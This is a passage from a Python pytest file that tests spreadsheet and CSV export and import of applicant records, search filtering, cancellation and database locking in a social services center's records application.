    return applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))


def fresh_center():
    close_database()
    open_database(":memory:")
    initialise_center(
        center_code="TEH06",
        center_name="مرکز خدمات اجتماعی منطقهٔ ۶",
        admin_username="admin",
        admin_display_name="مدیر",
        password="admin-pass-1",
    )
    return auth.login("admin", "admin-pass-1")


COMPARED = (*applicant_io.IMPORT_FIELDS, "category_flags", "name_keys", "sort_name")


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_export_then_import_round_trips(admin, tmp_path, suffix):
    import_people(admin, FULL, applicant_row(2), applicant_row(3, gender="male", district="10"))
    applicants.change_status(admin, stored(applicant_row(3)["national_code"]).id, "counselling")
    before = {
        a.national_code: {name: getattr(a, name) for name in COMPARED} for a in Applicant.select()
    }
    out = tmp_path / f"out{suffix}"
    assert applicant_io.export(admin, ApplicantSearch(admin), out) == 3

    # The same file into this center: everyone is already registered.
    assert import_everything(admin, out).rejected == 3

    other = fresh_center()
    summary = import_everything(other, out)
    assert (summary.created, summary.rejected) == (3, 0)
    after = {
        a.national_code: {name: getattr(a, name) for name in COMPARED} for a in Applicant.select()
    }
    assert after == before


def test_export_pages_through_a_filtered_search(admin, tmp_path, monkeypatch):
    monkeypatch.setattr(applicant_export, "_EXPORT_CHUNK", 2)
    import_people(admin, *(applicant_row(n, district=str(1 + n % 2)) for n in range(1, 8)))
    out = tmp_path / "out.csv"
    calls = []
    count = applicant_io.export(
        admin,
        ApplicantSearch(admin, "", Filters(district=2)),
        out,
        progress=lambda done, total: calls.append((done, total)),
    )
    with open(out, encoding="utf-8-sig", newline="") as exported:
        rows = list(csv.DictReader(exported))
    assert count == 4
    assert [row["file_number"] for row in rows] == [
        "TEH05-000001",
        "TEH05-000003",
        "TEH05-000005",
        "TEH05-000007",
    ]
    assert calls == [(2, 4), (4, 4)]


def test_export_by_query(admin, tmp_path):
    import_people(admin, applicant_row(1), applicant_row(2, first_name="کاوه", last_name="آهنگر"))
    out = tmp_path / "out.csv"
    assert applicant_io.export(admin, ApplicantSearch(admin, "آهنگر"), out) == 1


def test_cancelled_export_leaves_no_file(admin, tmp_path):
    import_people(admin, applicant_row(1))
    progress = Progress()
    progress.cancel()
    out = tmp_path / "out.xlsx"
    out.write_bytes(b"an older export")
    with pytest.raises(Cancelled):
        applicant_io.export(admin, ApplicantSearch(admin), out, progress=progress.step)
    assert out.read_bytes() == b"an older export"
    assert list(tmp_path.iterdir()) == [out]


def test_export_refuses_other_formats(admin, tmp_path):
    with pytest.raises(UserError) as raised:
        applicant_io.export(admin, ApplicantSearch(admin), tmp_path / "out.pdf")
    assert (raised.value.code, raised.value.message) == (
        "unsupported_format",
        Messages.UNSUPPORTED_EXPORT,
    )


def test_rows_are_counted_as_records_not_physical_lines(admin, tmp_path):
    """A quoted cell with a line break is one spreadsheet row, as Excel shows it."""
    people = [
        applicant_row(1) | {"notes": "خط اول\nخط دوم"},
        applicant_row(2, mobile="x") | {"notes": ""},
    ]
    table = applicant_io.read_table(write_csv(tmp_path / "in.csv", people))
    results = applicant_io.dry_run(admin, table, applicant_io.guess_mapping(table.headers))
    assert [(r.row, r.status) for r in results] == [(2, "ok"), (3, "rejected")]


@pytest.mark.sqlite_only("SQLite's write lock")
def test_a_clerk_can_save_while_an_export_runs(tmp_path):
    """An export reads one snapshot without the write lock: another desk's write during
    it goes through at once (under a write lock it would wait, then fail here)."""
    import sqlite3

    path = tmp_path / "center.db"
    open_database(path)
    try:
        admin = set_up_center()
        import_people(admin, applicant_row(1), applicant_row(2))
        written = []

        def progress(done: int, total: int | None) -> None:
            other = sqlite3.connect(path, timeout=0)
            with other:
                other.execute("UPDATE center SET name = name || ''")
            other.close()
            written.append(done)

        out = tmp_path / "out.csv"
        assert applicant_io.export(admin, ApplicantSearch(admin), out, progress=progress) == 2
        assert written
    finally:
        close_database()


def test_a_large_import_merges_the_name_index(admin, tmp_path, monkeypatch):
    """From OPTIMIZE_AFTER rows on, the index is merged into one segment afterwards
    (ApplicantIndex.optimize), and what was imported is found by name with filters."""
    merged = []
    original = ApplicantIndex.optimize
    monkeypatch.setattr(applicant_import, "OPTIMIZE_AFTER", 2)
    monkeypatch.setattr(ApplicantIndex, "optimize", lambda: merged.append(original()))
    path = write_csv(tmp_path / "one.csv", [applicant_row(1)])
    table = applicant_io.read_table(path)
    applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert merged == []  # one row: FTS5's own merging is enough
    path = write_csv(tmp_path / "two.csv", [applicant_row(2), applicant_row(3)])
    table = applicant_io.read_table(path)
    summary = applicant_io.import_rows(admin, table, applicant_io.guess_mapping(table.headers))
    assert summary.created == 2
    assert merged == [None]  # merged once (PostgreSQL has no such index: nothing to do)
    row = applicant_row(3)
    found = ApplicantSearch(admin, "زهرا احمدی", Filters(district=int(row["district"])))
    ids = {row_id for row_id, _ in found.fetch(0, 10)}
    assert str(stored(row["national_code"]).id) in ids
